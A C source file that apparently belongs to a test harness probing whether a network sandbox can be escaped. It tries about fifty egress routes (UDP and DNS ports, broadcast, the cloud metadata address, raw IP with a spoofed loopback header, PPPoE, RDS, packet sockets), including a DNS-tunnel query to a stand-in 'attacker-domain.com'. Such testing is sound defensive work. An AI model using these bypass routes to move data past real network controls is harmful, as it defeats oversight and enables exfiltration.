/* ways_datagram.c: UDP in its forms, UDP-Lite, ICMP, raw IP, packets, names. */
#include "escape.h"

#include <net/if.h> /* before linux/if_pppox.h, which repeats it otherwise */

#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <linux/if_pppox.h>
#include <net/ethernet.h>
#include <netinet/icmp6.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/stat.h>

#ifndef AF_RDS
#define AF_RDS 21
#endif
#ifndef IPV6_HDRINCL
#define IPV6_HDRINCL 36
#endif

static int give(int fd, const void *data, size_t len, const struct dest *d, bool dial)
{
	const struct sockaddr *sa = (const struct sockaddr *)&d->ss;

	if (!dial)
		return sendto(fd, data, len, 0, sa, d->len) < 0 ? step_failed("sendto") : WAY_SENT;
	if (connect(fd, sa, d->len) < 0)
		return step_failed("connect");
	return send(fd, data, len, 0) < 0 ? step_failed("send") : WAY_SENT;
}

static int datagram(const struct target *t, const char *arg, int proto, uint16_t port, bool dial)
{
	struct dest d = target_dest(t, arg, port);
	auto_close int fd = way_socket(d.family, SOCK_DGRAM, proto);

	return fd < 0 ? WAY_REFUSED : give(fd, t->marker, ESCAPE_MARKER, &d, dial);
}

static int udp_connect(const struct target *t, const char *arg)
{
	return datagram(t, arg, 0, t->port, true);
}

static int udp_quic(const struct target *t, const char *arg)
{
	return datagram(t, arg, 0, 443, true);
}

static int udp_dns(const struct target *t, const char *arg)
{
	return datagram(t, arg, 0, 53, false);
}

static int udp_dns_connect(const struct target *t, const char *arg)
{
	return datagram(t, arg, 0, 53, true);
}

static int udplite(const struct target *t, const char *arg)
{
	return datagram(t, arg, IPPROTO_UDPLITE, t->port, false);
}

static int udplite_connect(const struct target *t, const char *arg)
{
	return datagram(t, arg, IPPROTO_UDPLITE, t->port, true);
}

/* connect() is hooked for a port that is allowed; the sends then go elsewhere. */
static int udp_elsewhere(const struct target *t, const char *arg)
{
	struct dest dns = target_dest(t, arg, 53), d = target_dest(t, arg, t->port);
	auto_close int fd = way_socket(d.family, SOCK_DGRAM, 0);

	if (fd < 0)
		return WAY_REFUSED;
	if (connect(fd, (struct sockaddr *)&dns.ss, dns.len) < 0)
		return step_failed("connect");
	return give(fd, t->marker, ESCAPE_MARKER, &d, false);
}

/* A sockaddr without a family counts as IPv4 in the kernel. */
static int udp_unspec(const struct target *t, const char *arg)
{
	struct dest d = target_dest(t, "4", t->port);
	auto_close int fd = way_socket(AF_INET, SOCK_DGRAM, 0);

	(void)arg;
	d.ss.ss_family = AF_UNSPEC;
	return fd < 0 ? WAY_REFUSED : give(fd, t->marker, ESCAPE_MARKER, &d, false);
}

static int udp6_with_inet(const struct target *t, const char *arg)
{
	struct dest d = target_dest(t, "4", t->port);
	auto_close int fd = way_socket(AF_INET6, SOCK_DGRAM, 0);

	return fd < 0 ? WAY_REFUSED : give(fd, t->marker, ESCAPE_MARKER, &d, *arg == 'c');
}

static int udp_broadcast(const struct target *t, const char *arg)
{
	struct dest d = target_dest(t, arg, t->port);
	auto_close int fd = way_socket(AF_INET, SOCK_DGRAM, 0);
	int on = 1;

	if (fd < 0 || way_setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof(on), "SO_BROADCAST"))
		return WAY_REFUSED;
	return give(fd, t->marker, ESCAPE_MARKER, &d, false);
}

static int udp_scoped(const struct target *t, const char *arg)
{
	struct dest d = target_dest(t, arg, t->port);
	auto_close int fd = way_socket(AF_INET6, SOCK_DGRAM, 0);

	((struct sockaddr_in6 *)&d.ss)->sin6_scope_id = if_nametoindex(t->dev);
	return fd < 0 ? WAY_REFUSED : give(fd, t->marker, ESCAPE_MARKER, &d, false);
}

/* Somebody from outside writes first, and the answer carries the marker. */
static int udp_answer(const struct target *t, const char *arg)
{
	struct dest own = target_dest(t, *arg == '6' ? "::" : "0.0.0.0", t->listen),
		    from = {.len = sizeof(from.ss)};
	auto_close int fd = way_socket(own.family, SOCK_DGRAM, 0);
	char b[64];

	if (fd < 0)
		return WAY_REFUSED;
	if (bind(fd, (struct sockaddr *)&own.ss, own.len) < 0)
		return step_failed("bind");
	way_call_me(t, *arg == '6' ? "udp6" : "udp4");
	if (!way_ready(fd, POLLIN, t->wait))
		return step_said("recv: nothing came");
	if (recvfrom(fd, b, sizeof(b), 0, (struct sockaddr *)&from.ss, &from.len) < 0)
		return step_failed("recv");
	return give(fd, t->marker, ESCAPE_MARKER, &from, false);
}

/* A question whose first label is the marker, for any server that would pass it on. */
static int dns_tunnel(const struct target *t, const char *arg)
{
	static const char rest[] = "\x0f"
				   "attacker-domain"
				   "\x03"
				   "com"
				   "\0\0\x01\0\x01";
	struct dest d = target_dest(t, arg, 53);
	auto_close int fd = way_socket(d.family, SOCK_DGRAM, 0);
	char q[12 + 1 + ESCAPE_MARKER + sizeof(rest) - 1] = {0x12, 0x34, 1, 0, 0, 1};
	char answer[512];
	int rc;

	q[12] = ESCAPE_MARKER;
	memcpy(q + 13, t->marker, ESCAPE_MARKER);
	memcpy(q + 13 + ESCAPE_MARKER, rest, sizeof(rest) - 1);
	rc = fd < 0 ? WAY_REFUSED : give(fd, q, sizeof(q), &d, true);
	if (rc == WAY_SENT && way_ready(fd, POLLIN, 300))
		(void)recv(fd, answer, sizeof(answer), 0);
	return rc;
}

/* ---- ICMP and raw ---- */

static int echo(const struct target *t, const char *arg, int type, bool dial)
{
	struct dest d = target_dest(t, arg, 0);
	bool six = d.family == AF_INET6;
	auto_close int fd = way_socket(d.family, type, six ? IPPROTO_ICMPV6 : IPPROTO_ICMP);
	char b[8 + ESCAPE_MARKER] = {six ? (char)ICMP6_ECHO_REQUEST : ICMP_ECHO};

	memcpy(b + 8, t->marker, ESCAPE_MARKER);
	return fd < 0 ? WAY_REFUSED : give(fd, b, sizeof(b), &d, dial);
}

static int ping(const struct target *t, const char *arg)
{
	return echo(t, arg, SOCK_DGRAM, false);
}

static int ping_connect(const struct target *t, const char *arg)
{
	return echo(t, arg, SOCK_DGRAM, true);
}

static int raw_icmp(const struct target *t, const char *arg)
{
	return echo(t, arg, SOCK_RAW, false);
}

static int raw(const struct target *t, const char *arg)
{
	struct dest d = target_dest(t, arg, 0);
	auto_close int fd = way_socket(d.family, SOCK_RAW, 253);

	return fd < 0 ? WAY_REFUSED : give(fd, t->marker, ESCAPE_MARKER, &d, false);
}

/* The header names loopback, while the kernel routes by the sockaddr. */
static int hdrincl(const struct target *t, const char *arg)
{
	struct dest d = target_dest(t, arg, 0);
	auto_close int fd = way_socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	struct {
		struct iphdr ip;
		char marker[ESCAPE_MARKER];
	} p = {.ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = 253}};

	p.ip.daddr = htonl(0x7f000001);
	p.ip.tot_len = htons(sizeof(p));
	memcpy(p.marker, t->marker, ESCAPE_MARKER);
	return fd < 0 ? WAY_REFUSED : give(fd, &p, sizeof(p), &d, false);
}

static int hdrincl6(const struct target *t, const char *arg)
{
	struct dest d = target_dest(t, arg, 0);
	auto_close int fd = way_socket(AF_INET6, SOCK_RAW, IPPROTO_RAW);
	char p[40 + ESCAPE_MARKER] = {0x60, 0, 0, 0, 0, ESCAPE_MARKER, (char)253, 64};
	struct in6_addr to = target_v6(t);

	memcpy(p + 24, &to, 16);
	memcpy(p + 40, t->marker, ESCAPE_MARKER);
	return fd < 0 ? WAY_REFUSED : give(fd, p, sizeof(p), &d, false);
}

/* ---- sockets of other families that end in packets ---- */

/* IP protocol 115; its address has a connection's number behind the port, which stands for nothing here. */
static int l2tp(const struct target *t, const char *arg)
{
	struct dest d = target_dest(t, arg, 0);
	auto_close int fd = way_socket(d.family, SOCK_DGRAM, 115);

	d.len = sizeof(struct sockaddr_in6) + 4;
	if (d.family == AF_INET)
		d.len = sizeof(struct sockaddr_in);
	return fd < 0 ? WAY_REFUSED : give(fd, t->marker, ESCAPE_MARKER, &d, false);
}

/* A session that nobody negotiated: frames straight to the link, and no capability is asked for. */
static int pppoe(const struct target *t, const char *arg)
{
	auto_close int fd = way_socket(AF_PPPOX, SOCK_STREAM, PX_PROTO_OE);
	struct sockaddr_pppox to = {.sa_family = AF_PPPOX, .sa_protocol = PX_PROTO_OE};

	(void)arg;
	if (fd < 0)
		return WAY_REFUSED;
	to.sa_addr.pppoe.sid = htons((uint16_t)(256 + t->way));
	memset(to.sa_addr.pppoe.remote, 255, sizeof(to.sa_addr.pppoe.remote));
	(void)snprintf(to.sa_addr.pppoe.dev, sizeof(to.sa_addr.pppoe.dev), "%s", t->dev);
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
		return step_failed("connect");
	return send(fd, t->marker, ESCAPE_MARKER, 0) < 0 ? step_failed("send") : WAY_SENT;
}

/* Reliable datagrams: a kernel worker dials the TCP connection under them. */
static int rds(const struct target *t, const char *arg)
{
	struct dest d = target_dest(t, arg, t->port), own = target_dest(t, "0.0.0.0", t->listen);
	auto_close int ip = way_socket(AF_INET, SOCK_DGRAM, 0);
	auto_close int fd = way_socket(AF_RDS, SOCK_SEQPACKET, 0);
	struct ifreq ifr = {0};

	if (fd < 0 || ip < 0)
		return WAY_REFUSED;
	(void)snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", t->dev);
	if (ioctl(ip, SIOCGIFADDR, &ifr) < 0)
		return step_failed("SIOCGIFADDR");
	((struct sockaddr_in *)&own.ss)->sin_addr = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr;
	if (bind(fd, (struct sockaddr *)&own.ss, own.len) < 0)
		return step_failed("bind");
	if (sendto(fd, t->marker, ESCAPE_MARKER, MSG_DONTWAIT, (struct sockaddr *)&d.ss, d.len) < 0)
		return step_failed("sendto");
	(void)usleep(300000);
	return WAY_SENT;
}

static int packet(const struct target *t, const char *arg)
{
	auto_close int fd = way_socket(AF_PACKET, *arg == 'r' ? SOCK_RAW : SOCK_DGRAM, 0);
	struct sockaddr_ll to = {.sll_family = AF_PACKET,
				 .sll_protocol = htons(0x88b5),
				 .sll_halen = 6,
				 .sll_addr = {255, 255, 255, 255, 255, 255}};
	char p[14 + ESCAPE_MARKER + 30] = {-1, -1, -1, -1, -1, -1,         2,
					   0,  0,  0,  0,  1,  (char)0x88, (char)0xb5};

	if (fd < 0)
		return WAY_REFUSED;
	to.sll_ifindex = (int)if_nametoindex(t->dev);
	memcpy(p + 14, t->marker, ESCAPE_MARKER);
	if (sendto(fd, *arg == 'r' ? p : p + 14, *arg == 'r' ? sizeof(p) : sizeof(p) - 14, 0,
		   (struct sockaddr *)&to, sizeof(to)) < 0)
		return step_failed("sendto");
	return WAY_SENT;
}

/* ---- from before the guard ---- */

static int before_udp(const struct target *t, const char *arg)
{
	struct dest d = target_dest(t, arg, t->port);
	int fd = d.family == AF_INET ? BEFORE_UDP4 : BEFORE_UDP6;
	struct stat st;

	if (fstat(fd, &st) < 0 || !S_ISSOCK(st.st_mode))
		return step_said("no socket from before: closed");
	return give(fd, t->marker, ESCAPE_MARKER, &d, false);
}

const struct way ways_datagram[] = {
	{.name = "udp4", .run = way_udp, .arg = "4"},
	{.name = "udp6", .run = way_udp, .arg = "6"},
	{.name = "udp-mapped", .run = way_udp, .arg = "mapped"},
	{.name = "udp-connect4", .run = udp_connect, .arg = "4"},
	{.name = "udp-connect6", .run = udp_connect, .arg = "6"},
	{.name = "udp-connect-mapped", .run = udp_connect, .arg = "mapped"},
	{.name = "udp-quic4", .run = udp_quic, .arg = "4"},
	{.name = "udp-quic6", .run = udp_quic, .arg = "6"},
	{.name = "udp-elsewhere4", .run = udp_elsewhere, .arg = "4"},
	{.name = "udp-elsewhere6", .run = udp_elsewhere, .arg = "6"},
	{.name = "udp-elsewhere-mapped", .run = udp_elsewhere, .arg = "mapped"},
	{.name = "udp-unspec", .run = udp_unspec},
	{.name = "udp6-inet-sendto", .run = udp6_with_inet, .arg = "sendto"},
	{.name = "udp6-inet-connect", .run = udp6_with_inet, .arg = "connect"},
	{.name = "udp-broadcast", .run = udp_broadcast, .arg = "198.51.100.255"},
	{.name = "udp-broadcast-all", .run = udp_broadcast, .arg = "255.255.255.255"},
	{.name = "udp-multicast4", .run = way_udp, .arg = "239.18.18.18"},
	{.name = "udp-multicast6", .run = udp_scoped, .arg = "ff05::18"},
	{.name = "udp-linklocal6", .run = udp_scoped, .arg = "ff02::1"},
	{.name = "udp-metadata", .run = way_udp, .arg = "169.254.169.254"},
	{.name = "udp-127.0.0.1", .run = way_udp, .arg = "127.0.0.1"},
	{.name = "udp-::1", .run = way_udp, .arg = "::1"},
	{.name = "udp-port53-4", .run = udp_dns, .arg = "4"},
	{.name = "udp-port53-6", .run = udp_dns, .arg = "6"},
	{.name = "udp-port53-connect4", .run = udp_dns_connect, .arg = "4"},
	{.name = "udp-port53-connect6", .run = udp_dns_connect, .arg = "6"},
	{.name = "dns-tunnel4", .run = dns_tunnel, .arg = "4"},
	{.name = "dns-tunnel6", .run = dns_tunnel, .arg = "6"},
	{.name = "udp-answer4", .run = udp_answer, .arg = "4"},
	{.name = "udp-answer6", .run = udp_answer, .arg = "6"},
	{.name = "udplite-sendto4", .run = udplite, .arg = "4"},
	{.name = "udplite-sendto6", .run = udplite, .arg = "6"},
	{.name = "udplite-connect4", .run = udplite_connect, .arg = "4"},
	{.name = "udplite-connect6", .run = udplite_connect, .arg = "6"},
	{.name = "ping-sendto4", .run = ping, .arg = "4"},
	{.name = "ping-sendto6", .run = ping, .arg = "6"},
	{.name = "ping-connect4", .run = ping_connect, .arg = "4"},
	{.name = "ping-connect6", .run = ping_connect, .arg = "6"},
	{.name = "raw-icmp4", .run = raw_icmp, .arg = "4"},
	{.name = "raw-icmp6", .run = raw_icmp, .arg = "6"},
	{.name = "raw4", .run = raw, .arg = "4"},
	{.name = "raw6", .run = raw, .arg = "6"},
	{.name = "raw-hdrincl4", .run = hdrincl, .arg = "4"},
	{.name = "raw-hdrincl6", .run = hdrincl6, .arg = "6"},
	{.name = "l2tp4", .run = l2tp, .arg = "4"},
	{.name = "l2tp6", .run = l2tp, .arg = "6"},
	{.name = "pppoe", .run = pppoe},
	{.name = "rds4", .run = rds, .arg = "4"},
	{.name = "packet-raw", .run = packet, .arg = "raw"},
	{.name = "packet-dgram", .run = packet, .arg = "dgram"},
	{.name = "before-udp4", .run = before_udp, .arg = "4"},
	{.name = "before-udp6", .run = before_udp, .arg = "6"},
	{0},
};
